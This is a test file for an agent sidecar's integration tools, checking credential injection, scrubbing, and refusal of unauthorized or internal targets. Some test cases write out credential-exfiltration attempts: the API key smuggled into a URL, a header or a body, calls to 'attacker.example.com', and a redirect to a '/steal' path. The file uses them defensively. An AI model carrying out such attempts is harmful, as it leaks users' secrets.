// A real sidecar serving integration tools: api_call against loopback upstreams (credential
// injection, every refusal, redirects, names that resolve internal, scrubbing), and remote MCP
// integrations served by the official MCP SDK server (streamable HTTP and SSE).
import { test, describe, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { randomUUID } from 'node:crypto';
import { createServer, type IncomingHttpHeaders, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { Client } from '@modelcontextprotocol/sdk/client/index.js';
import { StreamableHTTPClientTransport } from '@modelcontextprotocol/sdk/client/streamableHttp.js';
import { McpServer } from '@modelcontextprotocol/sdk/server/mcp.js';
import { SSEServerTransport } from '@modelcontextprotocol/sdk/server/sse.js';
import { StreamableHTTPServerTransport } from '@modelcontextprotocol/sdk/server/streamableHttp.js';
import { z } from 'zod';
import { readBody } from '../../lib/outbound-http.ts';
import { newRunEventSecret } from '../../lib/run-events.ts';
import { aSidecarAssignment, bearer, sidecarUrlOf, spawnWarm, startEventReceiver, type EventReceiver, type WarmProcess } from './sidecar-run-harness.ts';

const API_KEY = 'sk-live-integration-secret-7f3a9c';
const REMOTE_TOKEN = 'remote-mcp-token-5d1e2b8a';

interface Seen {
  method: string;
  url: string;
  headers: IncomingHttpHeaders;
  body: string;
}

async function listen(server: Server): Promise<number> {
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  return (server.address() as AddressInfo).port;
}

async function close(server: Server): Promise<void> {
  server.closeAllConnections();
  await new Promise<void>((resolve) => server.close(() => resolve()));
}

/** A loopback API that records each request; a few paths answer specially. */
async function anUpstream(redirectTo: () => string) {
  const seen: Seen[] = [];
  const server = createServer(async (req, res) => {
    const body = (await readBody(req)).toString('utf8');
    seen.push({ method: req.method ?? '', url: req.url ?? '', headers: req.headers, body });
    if (req.url === '/api/redirect') return res.writeHead(302, { location: redirectTo() }).end();
    if (req.url === '/api/echo-auth') {
      return res.writeHead(200, { 'content-type': 'application/json' }).end(JSON.stringify({ youSent: req.headers.authorization }));
    }
    if (req.url === '/api/big') return res.writeHead(200, { 'content-type': 'text/plain' }).end('x'.repeat(1_500_000));
    res.writeHead(201, { 'content-type': 'application/json', 'set-cookie': 'sid=abc' }).end(JSON.stringify({ ok: true, path: req.url }));
  });
  const port = await listen(server);
  return { seen, port, url: `http://127.0.0.1:${port}`, close: () => close(server) };
}

/** The official SDK's MCP server: add, whoami (echoes the key it received) and a tool the agent did not select. */
function anMcpServer(seenKeys: Array<string | undefined>): McpServer {
  const server = new McpServer({ name: 'vendor', version: '1.0.0' });
  server.registerTool('add', { description: 'adds two numbers', inputSchema: { a: z.number(), b: z.number() } }, ({ a, b }) => ({
    content: [{ type: 'text', text: String(a + b) }],
  }));
  server.registerTool('whoami', { description: 'tells the key it received', inputSchema: {} }, () => ({
    content: [{ type: 'text', text: `key=${seenKeys.at(-1)}` }],
  }));
  server.registerTool('delete_everything', { description: 'not selected', inputSchema: {} }, () => ({ content: [{ type: 'text', text: 'gone' }] }));
  return server;
}

async function aStreamableMcpServer() {
  const seenKeys: Array<string | undefined> = [];
  const http = createServer(async (req, res) => {
    seenKeys.push(req.headers['x-api-key'] as string | undefined);
    if (req.headers['x-api-key'] !== REMOTE_TOKEN) return res.writeHead(401).end();
    const raw = (await readBody(req)).toString('utf8');
    const transport = new StreamableHTTPServerTransport({ sessionIdGenerator: undefined, enableJsonResponse: true });
    res.on('close', () => void transport.close());
    await anMcpServer(seenKeys).connect(transport);
    await transport.handleRequest(req, res, raw === '' ? undefined : JSON.parse(raw));
  });
  const port = await listen(http);
  return { port, seenKeys, url: `http://127.0.0.1:${port}/mcp`, close: () => close(http) };
}

async function anSseMcpServer() {
  const seenKeys: Array<string | undefined> = [];
  const transports = new Map<string, SSEServerTransport>();
  const http = createServer(async (req, res) => {
    seenKeys.push(req.headers['x-api-key'] as string | undefined);
    if (req.headers['x-api-key'] !== REMOTE_TOKEN) return res.writeHead(401).end();
    const url = new URL(req.url ?? '/', 'http://127.0.0.1');
    if (req.method === 'GET' && url.pathname === '/sse') {
      const transport = new SSEServerTransport('/messages', res);
      transports.set(transport.sessionId, transport);
      await anMcpServer(seenKeys).connect(transport);
      return;
    }
    const transport = transports.get(url.searchParams.get('sessionId') ?? '');
    if (!transport) return res.writeHead(404).end();
    const raw = (await readBody(req)).toString('utf8');
    await transport.handlePostMessage(req, res, JSON.parse(raw));
  });
  const port = await listen(http);
  return { port, seenKeys, url: `http://127.0.0.1:${port}/sse`, close: () => close(http) };
}

function anIntegration(over: Record<string, unknown>) {
  return {
    packageId: '@acme/crm',
    toolPrefix: 'acme_crm',
    tools: ['api_call'],
    source: { kind: 'none' },
    authKey: 'default',
    connectionId: randomUUID(),
    authorizedUris: [],
    delivery: { in: 'header', name: 'Authorization', prefix: 'Bearer ', value: '{$credential.api_key}' },
    credentials: { api_key: API_KEY },
    ...over,
  };
}

const textOf = (result: Awaited<ReturnType<Client['callTool']>>) => (result.content as Array<{ text: string }>).map((c) => c.text).join('');

describe('integration tools in the sidecar', () => {
  let upstream: Awaited<ReturnType<typeof anUpstream>>;
  let second: Awaited<ReturnType<typeof anUpstream>>;
  let elsewhere: Awaited<ReturnType<typeof anUpstream>>;
  let remote: Awaited<ReturnType<typeof aStreamableMcpServer>>;
  let sse: Awaited<ReturnType<typeof anSseMcpServer>>;
  let receiver: EventReceiver;
  let sidecar: WarmProcess;
  let client: Client;
  /** everything the agent received from the sidecar, to search for credentials */
  const received: string[] = [];

  const call = async (name: string, args: Record<string, unknown>) => {
    const result = await client.callTool({ name, arguments: args });
    received.push(JSON.stringify(result));
    return result;
  };
  const apiCall = (args: Record<string, unknown>, tool = 'acme_crm__api_call') => call(tool, args);

  before(async () => {
    elsewhere = await anUpstream(() => 'http://127.0.0.1:1/');
    upstream = await anUpstream(() => `${elsewhere.url}/steal`);
    second = await anUpstream(() => 'http://127.0.0.1:1/');
    remote = await aStreamableMcpServer();
    sse = await anSseMcpServer();
    const secret = newRunEventSecret();
    receiver = await startEventReceiver(secret);
    sidecar = await spawnWarm('sidecar/main.ts');
    const assignment = {
      ...aSidecarAssignment({ eventsUrl: `${receiver.url}/events`, eventSecret: secret, model: null }),
      // loopback upstreams are allowed by host:port; `elsewhere` too, so only authorized_uris keeps it out
      egressAllowInternalHosts: [upstream.url, second.url, elsewhere.url, remote.url, sse.url].map((u) => new URL(u).host),
      integrations: [
        anIntegration({ authorizedUris: [`${upstream.url}/api/*`, `${second.url}/api/*`] }),
        anIntegration({ packageId: '@acme/wild', toolPrefix: 'acme_wild', authorizedUris: ['https://*.example.com/*'] }),
        anIntegration({
          packageId: '@acme/tenant',
          toolPrefix: 'acme_tenant',
          authorizedUris: ['https://{$credential.subdomain}.example.com/*', `${upstream.url}/t/{$credential.account}/*`],
          credentials: { api_key: API_KEY, subdomain: '*', account: 'acct42' },
        }),
        // localhost resolves to loopback, but only 127.0.0.1:<port> is allowed: refused like a rebinding name
        anIntegration({ packageId: '@acme/named', toolPrefix: 'acme_named', authorizedUris: [`http://localhost:${upstream.port}/*`] }),
        anIntegration({
          packageId: '@vendor/remote',
          toolPrefix: 'vendor_remote',
          tools: ['add', 'whoami'],
          source: { kind: 'remote', url: remote.url, transport: 'streamable-http' },
          authorizedUris: [`${new URL(remote.url).origin}/*`],
          delivery: { in: 'header', name: 'X-Api-Key', value: '{$credential.token}' },
          credentials: { token: REMOTE_TOKEN },
        }),
        anIntegration({
          packageId: '@vendor/legacy',
          toolPrefix: 'vendor_legacy',
          tools: ['add'],
          source: { kind: 'remote', url: sse.url, transport: 'sse' },
          authorizedUris: [`${new URL(sse.url).origin}/*`],
          delivery: { in: 'header', name: 'X-Api-Key', value: '{$credential.token}' },
          credentials: { token: REMOTE_TOKEN },
        }),
      ],
    };
    sidecar.assign(assignment);
    client = new Client({ name: 'agent', version: '1.0.0' });
    await client.connect(new StreamableHTTPClientTransport(new URL(`${sidecarUrlOf(sidecar)}/mcp`), { requestInit: { headers: bearer(assignment.token) } }));
  });

  after(async () => {
    await client.close();
    await sidecar.kill();
    await Promise.all([upstream.close(), second.close(), elsewhere.close(), remote.close(), sse.close(), receiver.close()]);
    // nothing the agent received holds a credential, however it got there
    const all = received.join('\n');
    for (const secret of [API_KEY, REMOTE_TOKEN]) assert.equal(all.includes(secret), false, 'a credential reached the agent');
  });

  test('the tools are named <scope>_<name>__<tool>, remote ones as selected only', async () => {
    const { tools } = await client.listTools();
    received.push(JSON.stringify(tools));
    const names = tools.map((t) => t.name);
    for (const name of ['acme_crm__api_call', 'acme_wild__api_call', 'acme_tenant__api_call', 'acme_named__api_call', 'vendor_remote__add', 'vendor_remote__whoami', 'vendor_legacy__add']) {
      assert.ok(names.includes(name), name);
    }
    assert.equal(names.some((n) => n.endsWith('delete_everything')), false);
    assert.deepEqual(tools.find((t) => t.name === 'vendor_remote__add')?.inputSchema.required, ['a', 'b']);
  });

  test('api_call injects the credential per delivery; the upstream sees it and the agent does not', async () => {
    const result = await apiCall({ method: 'POST', url: `${upstream.url}/api/items?x=1`, headers: { 'X-Trace': 't1' }, body: { name: 'n' } });
    assert.equal(result.isError, false);
    const answer = JSON.parse(textOf(result));
    assert.equal(answer.status, 201);
    assert.deepEqual(JSON.parse(answer.body), { ok: true, path: '/api/items?x=1' });
    assert.equal(answer.headers['set-cookie'], undefined);
    const seen = upstream.seen.at(-1)!;
    assert.equal(seen.headers.authorization, `Bearer ${API_KEY}`);
    assert.equal(seen.headers['x-trace'], 't1');
    assert.equal(seen.headers['content-type'], 'application/json');
    assert.deepEqual(JSON.parse(seen.body), { name: 'n' });

    // an Authorization of the agent's own is replaced, not sent
    await apiCall({ method: 'GET', url: `${upstream.url}/api/items`, headers: { authorization: 'Bearer mine' } });
    assert.equal(upstream.seen.at(-1)!.headers.authorization, `Bearer ${API_KEY}`);

    // the upstream echoing the credential back: the agent reads it redacted
    const echoed = JSON.parse(textOf(await apiCall({ method: 'GET', url: `${upstream.url}/api/echo-auth` })));
    assert.deepEqual(JSON.parse(echoed.body), { youSent: '[redacted]' });
  });

  test('a target outside authorized_uris is unauthorized_target, and one host per integration', async () => {
    const before = upstream.seen.length + elsewhere.seen.length;
    for (const url of [`${elsewhere.url}/api/items`, `${upstream.url}/other`, 'ftp://127.0.0.1/x', 'not a url']) {
      const result = await apiCall({ method: 'GET', url });
      assert.equal(result.isError, true, url);
      assert.match(textOf(result), /^unauthorized_target: /, url);
    }
    // the integration already called upstream's host:port: the second authorized host is refused
    const other = await apiCall({ method: 'GET', url: `${second.url}/api/items` });
    assert.match(textOf(other), /^unauthorized_target: .*one host per integration/);
    assert.equal(upstream.seen.length + elsewhere.seen.length, before);
    assert.equal(second.seen.length, 0);
  });

  test('a credential the agent puts in the URL, a header or the body is credential_exfiltration_refused', async () => {
    const before = upstream.seen.length;
    for (const args of [
      { method: 'GET', url: `${upstream.url}/api/items?k=${API_KEY}` },
      { method: 'GET', url: `${upstream.url}/api/items?k=${encodeURIComponent(API_KEY)}` },
      { method: 'GET', url: `${upstream.url}/api/items`, headers: { 'X-Leak': API_KEY } },
      { method: 'POST', url: `${upstream.url}/api/items`, body: { copy: `prefix-${API_KEY}` } },
    ]) {
      const result = await apiCall(args);
      assert.equal(result.isError, true);
      assert.match(textOf(result), /^credential_exfiltration_refused: /);
    }
    assert.equal(upstream.seen.length, before);
  });

  test('a wildcard host, or a template whose value makes one, lets the caller choose the host: refused', async () => {
    const wild = await apiCall({ method: 'GET', url: 'https://attacker.example.com/x' }, 'acme_wild__api_call');
    assert.match(textOf(wild), /^credential_exfiltration_refused: /);
    const templated = await apiCall({ method: 'GET', url: 'https://attacker.example.com/x' }, 'acme_tenant__api_call');
    assert.match(textOf(templated), /^credential_exfiltration_refused: /);
    // a template in the path binds nothing the caller chooses: allowed, the rendered account is no secret
    const before = upstream.seen.length;
    const ok = await apiCall({ method: 'GET', url: `${upstream.url}/t/acct42/list` }, 'acme_tenant__api_call');
    assert.equal(ok.isError, false);
    assert.equal(upstream.seen.length, before + 1);
    assert.equal(upstream.seen.at(-1)!.headers.authorization, `Bearer ${API_KEY}`);
  });

  test('a name resolving to an internal address is blocked_target; a redirect is never followed', async () => {
    const before = upstream.seen.length;
    const named = await apiCall({ method: 'GET', url: `http://localhost:${upstream.port}/api/items` }, 'acme_named__api_call');
    assert.match(textOf(named), /^blocked_target: /);
    assert.equal(upstream.seen.length, before);

    const redirected = await apiCall({ method: 'GET', url: `${upstream.url}/api/redirect` });
    const answer = JSON.parse(textOf(redirected));
    assert.equal(answer.status, 302);
    assert.equal(answer.headers.location, `${elsewhere.url}/steal`);
    assert.equal(elsewhere.seen.length, 0, 'the redirect target received nothing');
  });

  test('a response over the cap is payload_too_large; bad arguments are invalid_request', async () => {
    assert.match(textOf(await apiCall({ method: 'GET', url: `${upstream.url}/api/big` })), /^payload_too_large: /);
    assert.match(textOf(await apiCall({ method: 'TRACE', url: `${upstream.url}/api/items` })), /^invalid_request: /);
    assert.match(textOf(await apiCall({ method: 'GET', url: `${upstream.url}/api/items`, body: 'x' })), /^invalid_request: /);
  });

  test('a remote MCP server (streamable HTTP) is called with the credential delivered; results are scrubbed', async () => {
    const sum = await call('vendor_remote__add', { a: 2, b: 3 });
    assert.equal(sum.isError, false);
    assert.equal(textOf(sum), '5');
    assert.ok(remote.seenKeys.length > 0);
    assert.ok(remote.seenKeys.every((k) => k === REMOTE_TOKEN), 'every request to the vendor carried the key');
    assert.equal(textOf(await call('vendor_remote__whoami', {})), 'key=[redacted]');
    const unselected = await call('vendor_remote__delete_everything', {});
    assert.equal(unselected.isError, true);
  });

  test('a remote MCP server over SSE is called the same way', async () => {
    const sum = await call('vendor_legacy__add', { a: 20, b: 22 });
    assert.equal(sum.isError, false);
    assert.equal(textOf(sum), '42');
    assert.ok(sse.seenKeys.length >= 2);
    assert.ok(sse.seenKeys.every((k) => k === REMOTE_TOKEN));
  });
});
